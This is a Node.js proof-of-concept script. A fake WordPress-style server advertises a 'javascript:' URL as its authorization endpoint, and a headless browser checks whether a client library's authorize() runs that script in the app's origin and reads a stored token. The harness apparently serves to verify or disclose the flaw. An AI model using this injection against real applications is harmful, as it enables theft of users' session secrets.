// authorize(): the site's index names "javascript://localhost/…" as its approval page -> code of the site runs in the app's origin.
import http from "node:http";
import { readFile } from "node:fs/promises";
import { createRequire } from "node:module";
const { chromium } = createRequire("/tmp/fresh/p/package.json")("playwright-core");
const listen = (h) => new Promise((r) => { const s = http.createServer(h).listen(0, "127.0.0.1", () => r(s)); });
const wp = await listen((req, res) => {
  res.setHeader("Access-Control-Allow-Origin", req.headers.origin ?? "*");
  res.setHeader("Access-Control-Allow-Headers", "*");
  res.setHeader("Content-Type", "application/json");
  res.end(JSON.stringify({ name: "S", url: "http://x", home: "x:y", namespaces: ["wp/v2"],
    authentication: { "application-passwords": { endpoints: { authorization: "javascript://localhost/%0avoid(document.title='PWNED%20'+location.origin+'%20'+localStorage.secret)//" } } } }));
});
const app = await listen(async (req, res) => {
  if (req.url === "/") { res.setHeader("Content-Type", "text/html"); return res.end("<!doctype html><title>app</title>hi"); }
  try { const b = await readFile("/tmp/fresh/p/pkg" + req.url.split("?")[0]); res.setHeader("Content-Type", "text/javascript"); res.end(b); } catch { res.statusCode = 404; res.end(); }
});
const b = await chromium.launch({ executablePath: "/usr/bin/chromium", args: ["--no-sandbox", "--disable-gpu"] });
const p = await b.newPage();
await p.goto(`http://127.0.0.1:${app.address().port}/`);
await p.evaluate(async (site) => {
  localStorage.secret = "another-sites-token";
  const { createClient } = await import("/dist/client.js");
  const wp = createClient({ site, plugin: "application-passwords" });
  wp.authorize().catch((e) => { document.title = "refused " + e.code; });
}, `http://127.0.0.1:${wp.address().port}`);
await p.waitForFunction(() => document.title !== "app", undefined, { timeout: 20000 }).catch(() => {});
console.log(await p.title(), await p.url());
await b.close(); wp.close(); app.close();
